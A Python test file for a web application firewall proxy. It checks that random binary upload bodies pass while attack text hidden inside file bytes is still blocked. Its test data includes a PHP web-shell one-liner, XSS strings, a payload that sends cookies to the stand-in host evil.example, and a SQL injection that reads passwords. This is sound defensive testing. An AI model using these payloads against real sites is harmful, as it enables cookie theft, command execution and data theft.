"""A whole request body of file bytes (``PUT /files/x``, ``curl --data-binary @photo.jpg``, a
``fetch`` of a ``File``) is read by the managed groups as its printable runs, as a multipart file
part is (``bodyregions.binary_body_as_text``): random compressed bytes are not markup, quotes or
shell syntax, while text hidden in the file, or an attack with a stray odd byte, still blocks."""

from __future__ import annotations

import random
from pathlib import Path

import pytest

from tests.engine.carrier_cases import _req
from wafproxy.aclfiles import load_web_acl
from wafproxy.engine import Action, CompiledWebACL, evaluate
from wafproxy.engine.bodyregions import binary_body_as_text

ROOT = Path(__file__).resolve().parents[2]
MEDIA_TYPES = ("application/octet-stream", "image/jpeg", "application/x-www-form-urlencoded", "")


@pytest.fixture(scope="module")
def default_acl() -> CompiledWebACL:
    return load_web_acl(ROOT / "rules" / "default-web-acl.json")


def blobs(n: int = 20, size: int = 16384) -> list[bytes]:
    rnd = random.Random(11)
    return [bytes(rnd.getrandbits(8) for _ in range(size)) for _ in range(n)]


@pytest.mark.parametrize("media_type", MEDIA_TYPES)
def test_file_bytes_pass(default_acl: CompiledWebACL, media_type: str) -> None:
    blocked = [i for i, blob in enumerate(blobs()) if
               evaluate(default_acl, _req("PUT", "/files/photo", blob, media_type)).action is Action.BLOCK]
    assert blocked == []


HIDDEN = (b"<?php system($_GET['c']); ?>", b"<script>alert(document.cookie)</script>",
          b"<svg/onload=fetch('//evil.example/'+document.cookie)>")


@pytest.mark.parametrize("media_type", MEDIA_TYPES)
@pytest.mark.parametrize("hidden", HIDDEN)
def test_text_hidden_in_file_bytes_blocks(default_acl: CompiledWebACL, media_type: str,
                                          hidden: bytes) -> None:
    for blob in blobs(5):
        body = blob[:5000] + hidden + blob[5000:]
        assert evaluate(default_acl, _req("PUT", "/files/photo", body, media_type)).action is Action.BLOCK


@pytest.mark.parametrize("body", [
    b"q=' union select password from users--\x00",  # one NUL: still text
    b"n=M\xfcller&q=<svg onload=alert(1)>",  # one Latin-1 letter: still text
    b"\x00<svg onload=1>",
])
def test_an_odd_byte_does_not_make_an_attack_file_bytes(default_acl: CompiledWebACL, body: bytes) -> None:
    assert binary_body_as_text(body) is None
    for media_type in MEDIA_TYPES:
        assert evaluate(default_acl, _req("POST", "/f", body, media_type)).action is Action.BLOCK


def test_binary_body_as_text_keeps_printable_runs() -> None:
    body = bytes(range(256)) * 8 + b"a readable sentence of text" + bytes(range(256)) * 8
    assert b"a readable sentence of text" in (binary_body_as_text(body) or b"")
    assert binary_body_as_text("Привет, мир! Plain UTF-8 prose.".encode()) is None
    assert binary_body_as_text(b"") is None


def test_a_serialized_java_object_keeps_its_magic(default_acl: CompiledWebACL) -> None:
    """Java serialization is binary by nature: its stream header is what the rule reads."""
    body = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap" + bytes(range(256)) * 4
    assert binary_body_as_text(body) is None
    decision = evaluate(default_acl, _req("POST", "/rpc", body, "application/x-java-serialized-object"))
    assert decision.action is Action.BLOCK
